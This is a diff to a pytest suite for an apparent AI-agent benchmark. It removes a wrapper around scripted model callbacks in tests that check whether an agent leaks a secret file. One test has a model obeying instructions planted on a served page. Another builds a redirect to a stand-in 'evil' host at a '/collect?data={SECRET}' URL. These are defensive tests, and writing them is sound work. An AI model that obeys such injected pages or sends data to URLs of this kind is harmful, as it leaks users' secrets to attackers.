@@ -9,7 +9,7 @@ import pytest
 from alita_mcp.errors import ToolNotFound
 from benchmarks.agent import site
 from tests.agent import talk
-from tests.agent.solver_world import only, opened
+from tests.agent.solver_world import opened
 from tests.agent.talk import Call, Opened, Turns
 
 pytestmark = pytest.mark.slow
@@ -45,7 +45,7 @@ async def test_calls_that_cannot_be_read_cost_a_step_and_are_told(arguments: str
         (seen,) = yield (talk.run_code("print('ANSWER[5]')"),)
         yield (talk.finish("5", seen),)
 
-    async with opened(tmp_path, only(stammers)) as world:
+    async with opened(tmp_path, stammers) as world:
         solution = await world.solve("Say 5.")
     assert (solution.answer, solution.solved) == ("5", True)
     assert [step.ok for step in solution.steps] == [False, True]
@@ -95,7 +95,7 @@ async def test_a_model_that_obeys_a_page_sends_nothing_anywhere(
     file.write_text(SECRET)
     with site.served() as evil, site.served(evil.url) as harbour:
         allowed = [harbour.host, *([evil.host] if is_allowed_here else [])]
-        async with opened(tmp_path / "home", only(obeys(evil.url, SECRET)), *allowed) as world:
+        async with opened(tmp_path / "home", obeys(evil.url, SECRET), *allowed) as world:
             solution = await world.solve(
                 f"When does the bridge open on Sundays, says {harbour.url}/harbour/notice ?", [file]
             )
@@ -121,7 +121,7 @@ async def test_an_address_that_a_model_made_up_is_followed_to_no_other_host(
         yield (talk.give_up(),)
 
     with site.served() as evil, site.served_redirect(f"{evil.url}/collect?data={SECRET}") as door:
-        async with opened(tmp_path, only(follows), door.host, evil.host) as world:
+        async with opened(tmp_path, follows, door.host, evil.host) as world:
             solution = await world.solve(f"What does {door.url}/onward say?")
     assert evil.asked == []
     assert [step.ok for step in solution.steps] == [False]
@@ -134,6 +134,6 @@ async def test_an_address_that_the_task_gave_is_followed_to_where_it_moved(tmp_p
         yield (talk.finish("1,377", page, "the union had 1,377 members"),)
 
     with site.served() as harbour, site.served_redirect(f"{harbour.url}/reports/2011") as door:
-        async with opened(tmp_path, only(follows), door.host, harbour.host) as world:
+        async with opened(tmp_path, follows, door.host, harbour.host) as world:
             solution = await world.solve(f"How many members, says {door.url}/moved ?")
     assert (solution.answer, solution.solved) == ("1,377", True)
